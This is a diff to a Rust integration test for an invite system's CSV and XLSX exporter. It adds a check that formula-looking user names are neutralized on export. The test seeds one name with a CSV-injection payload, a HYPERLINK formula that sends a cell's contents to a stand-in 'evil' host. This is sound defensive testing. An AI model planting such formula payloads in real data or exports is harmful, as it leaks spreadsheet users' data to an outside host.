@@ -7,7 +7,7 @@ use futures::StreamExt;
 use invitebus_commands::{CommandService, ServiceConfig, WriterConfig};
 use invitebus_events::subject::Subjects;
 use invitebus_events::Reply;
-use invitebus_exporter::file::{cells, COLUMNS};
+use invitebus_exporter::file::{cells, csv_field, COLUMNS};
 use invitebus_exporter::{ExporterConfig, ExporterService};
 use invitebus_natsrun::NatsServer;
 use invitebus_views::{ViewService, ViewsConfig};
@@ -80,7 +80,11 @@ impl Stack {
             let u = format!("v{i}");
             self.ok(
                 "UpsertUser",
-                json!({"actor":u,"user_id":u,"name":format!("Visitor {i}"),"phone":format!("9{i:03}")}),
+                json!({"actor":u,"user_id":u,"name":match i {
+                    // A name a spreadsheet would run as a formula (CSV injection).
+                    0 => "=HYPERLINK(\"http://evil/?\"&A1,\"click\")".to_string(),
+                    _ => format!("Visitor {i}"),
+                },"phone":format!("9{i:03}")}),
             )
             .await;
             self.ok(
@@ -196,18 +200,14 @@ async fn csv_and_xlsx_hold_the_admin_rows_as_of_the_request_with_progress_in_ord
     let models = expected["models"].as_array().unwrap();
     assert_eq!(models.len(), 12);
     for (line, model) in lines[1..].iter().zip(models) {
-        let quoted: Vec<String> = cells(model)
-            .iter()
-            .map(|c| {
-                if c.contains([',', '"']) {
-                    format!("\"{}\"", c.replace('"', "\"\""))
-                } else {
-                    c.clone()
-                }
-            })
-            .collect();
+        let quoted: Vec<String> = cells(model).iter().map(|c| csv_field(c)).collect();
         assert_eq!(*line, quoted.join(","));
     }
+    assert!(
+        csv.contains("\"'=HYPERLINK("),
+        "a formula-looking name is neutralized with a leading quote"
+    );
+    assert!(!csv.contains(",=HYPERLINK") && !csv.contains("\"=HYPERLINK"));
 
     // xlsx, read back with calamine: the same rows (now 13, the late invite included).
     let r = s
